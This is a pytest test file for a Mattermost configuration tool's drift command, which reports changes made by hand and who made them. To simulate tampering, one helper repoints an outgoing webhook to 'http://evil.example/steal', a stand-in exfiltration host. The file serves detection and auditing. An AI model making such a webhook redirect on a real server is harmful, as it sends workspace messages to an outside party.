"""`mmrc drift`: changes made by hand through the API are reported, field by field,
with who made them (the audit log); no drift exits 0."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from reconciler.client import Client
from reconciler.drift import mask_ids
from reconciler.errors import ForbiddenError

SECRET_ENV = {"MM_GITLAB_SECRET": "any-value-the-plan-cannot-compare"}
HAND_USER = "erik.beheer"

StartSandbox = Callable[..., Any]


def run(live: Any, *args: str) -> Any:
    return live.mmrc(*args, **SECRET_ENV)


@pytest.fixture
def demo(start_sandbox: StartSandbox, tmp_path: Path) -> tuple[Any, Path]:
    """The demo server with personal access tokens on, imported to workspace.yaml."""
    live = start_sandbox("demo")
    live.api.put("/api/v4/config/patch", {"ServiceSettings": {"EnableUserAccessTokens": True}})
    path = tmp_path / "workspace.yaml"
    imported = run(live, "import", "-o", str(path))
    assert imported.exit_code == 0, imported.output
    return live, path


def hand_token(live: Any, *, admin: bool = True) -> str:
    """Someone else's token: a second system admin (or a plain team member)."""
    user = live.user(HAND_USER)
    if admin:
        with live.sandbox.lock:
            live.sandbox.core.user(user["id"]).roles = "system_user system_admin"
    else:  # a team admin of asd: reads its channels and integrations, not the audit log
        team_id = live.team("asd")["id"]
        live.api.post(
            f"/api/v4/teams/{team_id}/members", {"team_id": team_id, "user_id": user["id"]}
        )
        with live.sandbox.lock:
            live.sandbox.core.team_member(team_id, user["id"]).scheme_admin = True
    token = live.api.post(f"/api/v4/users/{user['id']}/tokens", {"description": "by hand"})
    return str(token["token"])


def hand_client(live: Any, *, admin: bool = True) -> Client:
    return Client(live.url, hand_token(live, admin=admin), retries=0)


def change_by_hand(live: Any, client: Client) -> None:
    dev = live.channel("asd", "dev")["id"]
    client.put(f"/api/v4/channels/{dev}/patch", {"purpose": "Changed in the System Console"})
    hook = next(iter(live.sandbox.integrations.outgoing.values()))
    current = client.get(f"/api/v4/hooks/outgoing/{hook['id']}")
    client.put(
        f"/api/v4/hooks/outgoing/{hook['id']}",
        {**current, "callback_urls": ["http://evil.example/steal"]},
    )


def by_address(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {change["address"]: change for change in data["changes"]}


def test_no_drift_exits_0(demo: tuple[Any, Path]) -> None:
    live, path = demo
    result = run(live, "drift", "-f", str(path), "--detailed-exitcode")
    assert result.exit_code == 0, result.output
    assert "No drift. The server matches the workspace." in result.stdout
    as_json = run(live, "drift", "-f", str(path), "--format", "json", "--detailed-exitcode")
    assert as_json.exit_code == 0, as_json.output
    data = json.loads(as_json.stdout)
    assert data["drift"]["detected"] is False and data["changes"] == []


def test_changes_by_hand_are_drift_with_attribution(demo: tuple[Any, Path]) -> None:
    live, path = demo
    with hand_client(live) as client:
        change_by_hand(live, client)
    result = run(live, "drift", "-f", str(path), "--format", "json", "--detailed-exitcode")
    assert result.exit_code == 2, result.output
    data = json.loads(result.stdout)
    assert data["drift"]["detected"] is True
    assert data["drift"]["attribution"]["available"] is True
    changes = by_address(data)
    assert set(changes) == {
        "team.asd/channel.dev",
        "team.asd/outgoing_webhook.n8n ticket trigger",
    }
    channel = changes["team.asd/channel.dev"]
    assert channel["action"] == "update"
    assert channel["fields"] == [
        {
            "field": "purpose",
            "before": "Changed in the System Console",
            "after": "Development discussies",
            "sensitive": False,
            "live": "Changed in the System Console",
            "declared": "Development discussies",
        }
    ]
    attribution = channel["attribution"]
    assert attribution["username"] == HAND_USER
    assert attribution["user"] == live.user_id(HAND_USER)
    assert attribution["action"] == "/api/v4/channels/{id}/patch"
    assert attribution["at"].startswith("20") and attribution["at"].endswith("+00:00")
    hook = changes["team.asd/outgoing_webhook.n8n ticket trigger"]
    assert hook["fields"][0]["field"] == "callback_urls"
    assert hook["fields"][0]["live"] == ["http://evil.example/steal"]
    assert hook["fields"][0]["declared"] == ["http://asd-n8n:5678/webhook/mattermost-ticket"]
    assert hook["attribution"]["username"] == HAND_USER
    assert hook["attribution"]["action"] == "/api/v4/hooks/outgoing/{id}"
    assert f"changed by {HAND_USER} at " in " ".join(hook["notes"])


def test_text_and_markdown_show_who_changed_what(demo: tuple[Any, Path]) -> None:
    live, path = demo
    with hand_client(live) as client:
        change_by_hand(live, client)
    text = run(live, "drift", "-f", str(path))
    assert text.exit_code == 0, text.output  # without --detailed-exitcode
    assert "Drift detected: 2 objects differ from the workspace." in text.stdout
    assert "~ team.asd/channel.dev (differs)" in text.stdout
    assert 'purpose: live "Changed in the System Console", declared "Development discussies"' in (
        text.stdout
    )
    assert f"# changed by {HAND_USER} at " in text.stdout
    markdown = run(live, "drift", "-f", str(path), "--format", "markdown")
    assert "<!-- mmrc-drift -->" in markdown.stdout
    assert f"changed by {HAND_USER}" in markdown.stdout
    alias = run(live, "plan", "-f", str(path), "--drift", "--detailed-exitcode")
    assert alias.exit_code == 2, alias.output
    assert f"# changed by {HAND_USER} at " in alias.stdout
    assert "Drift:" in alias.stdout


def test_archived_by_hand_and_incoming_hook_ids_stay_hidden(demo: tuple[Any, Path]) -> None:
    live, path = demo
    hook_ids = list(live.sandbox.integrations.incoming)
    grafana = next(
        h for h in live.sandbox.integrations.incoming.values() if h["display_name"] == "Grafana"
    )
    with hand_client(live) as client:
        client.delete(f"/api/v4/channels/{live.channel('asd', 'general')['id']}")
        current = client.get(f"/api/v4/hooks/incoming/{grafana['id']}")
        client.put(f"/api/v4/hooks/incoming/{grafana['id']}", {**current, "description": "edited"})
    result = run(live, "drift", "-f", str(path), "--format", "json", "--detailed-exitcode")
    assert result.exit_code == 2, result.output
    changes = by_address(json.loads(result.stdout))
    general = changes["team.asd/channel.general"]
    assert general["action"] == "restore"
    assert general["attribution"]["username"] == HAND_USER
    assert general["attribution"]["action"] == "/api/v4/channels/{id}"
    hook = changes["team.asd/incoming_webhook.Grafana"]
    assert hook["attribution"]["action"] == "/api/v4/hooks/incoming/{id}"
    for hook_id in hook_ids:  # an incoming webhook's id is its credential
        assert hook_id not in result.stdout


def test_no_attribution_reads_no_audit_log(demo: tuple[Any, Path]) -> None:
    live, path = demo
    with hand_client(live) as client:
        change_by_hand(live, client)
    live.clear_requests()
    result = run(
        live,
        "drift",
        "-f",
        str(path),
        "--format",
        "json",
        "--no-attribution",
        "--detailed-exitcode",
    )
    assert result.exit_code == 2, result.output
    data = json.loads(result.stdout)
    assert all(change["attribution"] is None for change in data["changes"])
    assert data["drift"]["attribution"]["checked"] is False
    assert not [r for r in live.requests() if r["path"] == "/api/v4/audits"]


def test_without_audit_access_drift_is_shown_with_a_warning(
    start_sandbox: StartSandbox, tmp_path: Path
) -> None:
    live = start_sandbox("demo")
    live.api.put("/api/v4/config/patch", {"ServiceSettings": {"EnableUserAccessTokens": True}})
    token_file = tmp_path / "token"
    token_file.write_text(hand_token(live, admin=False))
    path = live.workspace(
        "version: 1\n"
        "policy: {exceptions: [{team: asd, channel: dev, reason: legacy}]}\n"
        "teams:\n"
        "  - name: asd\n"
        "    display_name: ASD-PMA\n"
        "    channels:\n"
        "      - {name: dev, display_name: Dev, purpose: Development discussies}\n"
    )
    dev = live.channel("asd", "dev")["id"]
    live.api.put(f"/api/v4/channels/{dev}/patch", {"purpose": "Changed"})
    result = live.mmrc(
        "drift", "-f", str(path), "--token-file", str(token_file), "--detailed-exitcode"
    )
    assert result.exit_code == 2, result.output
    assert 'purpose: live "Changed", declared "Development discussies"' in result.stdout
    assert "the audit log is not readable with this token" in result.stdout
    assert "changed by" not in result.stdout


# -- the sandbox's audit log, as real Mattermost serves it ------------------------------------


def test_audit_log_shape_order_paging_and_permission(start_sandbox: StartSandbox) -> None:
    live = start_sandbox("demo")
    dev = live.channel("asd", "dev")["id"]
    for n in range(3):
        live.api.put(f"/api/v4/channels/{dev}/patch", {"header": f"h{n}"})
    live.api.get("/api/v4/users/me")  # reads are not audited
    entries = live.api.get("/api/v4/audits", {"page": 0, "per_page": 2})
    assert len(entries) == 2
    assert set(entries[0]) == {
        "id",
        "create_at",
        "user_id",
        "action",
        "extra_info",
        "ip_address",
        "session_id",
    }
    assert entries[0]["action"] == f"/api/v4/channels/{dev}/patch"
    assert entries[0]["create_at"] >= entries[1]["create_at"]  # newest first
    assert entries[0]["user_id"] == live.user_id("sysadmin")
    rest = live.api.get("/api/v4/audits", {"page": 1, "per_page": 2})
    assert rest and rest[0]["id"] not in {e["id"] for e in entries}
    live.api.put("/api/v4/config/patch", {"ServiceSettings": {"EnableUserAccessTokens": True}})
    with hand_client(live, admin=False) as client, pytest.raises(ForbiddenError):
        client.get("/api/v4/audits")


def test_mask_ids() -> None:
    hook = "abcdefghijklmnopqrstuvwxyz"
    assert mask_ids(f"/api/v4/hooks/incoming/{hook}") == "/api/v4/hooks/incoming/{id}"
    assert mask_ids("/api/v4/config/patch") == "/api/v4/config/patch"


def test_settings_and_membership_drift_are_attributed(
    start_sandbox: StartSandbox, tmp_path: Path
) -> None:
    """The System Console saves the whole config (PUT /config: audited as updateConfig, as on
    the real server); a channel member removed by hand is audited with the channel's name."""
    live = start_sandbox("demo")
    live.api.put("/api/v4/config/patch", {"ServiceSettings": {"EnableUserAccessTokens": True}})
    path = tmp_path / "workspace.yaml"
    assert run(live, "import", "-o", str(path), "--members").exit_code == 0
    finance = live.channel("asd", "finance")["id"]
    with hand_client(live) as client:
        config = client.get("/api/v4/config")
        config["ServiceSettings"]["EnablePostIconOverride"] = True
        client.put("/api/v4/config", config)
        client.delete(f"/api/v4/channels/{finance}/members/{live.user_id('jan.devries')}")
    result = run(live, "drift", "-f", str(path), "--format", "json", "--detailed-exitcode")
    assert result.exit_code == 2, result.output
    changes = by_address(json.loads(result.stdout))
    settings = changes["settings.integrations"]
    assert settings["fields"][0]["field"] == "post_icon_override"
    assert (settings["fields"][0]["live"], settings["fields"][0]["declared"]) == (True, False)
    assert settings["attribution"]["username"] == HAND_USER
    assert settings["attribution"]["action"] == "/api/v4/config"
    member = changes["team.asd/channel.finance/member.jan.devries"]
    assert member["action"] == "create"
    assert member["attribution"]["username"] == HAND_USER
    assert member["attribution"]["action"] == "/api/v4/channels/{id}/members/{id}"


def test_drift_says_when_mattermost_keeps_no_record_of_a_change(
    start_sandbox: StartSandbox, tmp_path: Path
) -> None:
    """A config patch (PUT /config/patch) and a team member's removal leave no audit row on the
    real server: drift says the change cannot be attributed instead of staying silent."""
    live = start_sandbox("demo")
    live.api.put("/api/v4/config/patch", {"ServiceSettings": {"EnableUserAccessTokens": True}})
    path = tmp_path / "workspace.yaml"
    assert run(live, "import", "-o", str(path), "--members").exit_code == 0
    team = live.team("asd")["id"]
    with hand_client(live) as client:
        client.put("/api/v4/config/patch", {"ServiceSettings": {"EnablePostIconOverride": True}})
        client.delete(f"/api/v4/teams/{team}/members/{live.user_id('daan.visser')}")
    result = run(live, "drift", "-f", str(path), "--format", "json", "--detailed-exitcode")
    assert result.exit_code == 2, result.output
    changes = by_address(json.loads(result.stdout))
    for address in ("settings.integrations", "team.asd/member.daan.visser"):
        assert changes[address]["attribution"] is None
        [note] = [n for n in changes[address]["notes"] if "not attributable" in n]
        assert "Mattermost records no audit entry for" in note
    text = run(live, "drift", "-f", str(path)).stdout
    assert "not attributable: Mattermost records no audit entry for" in text
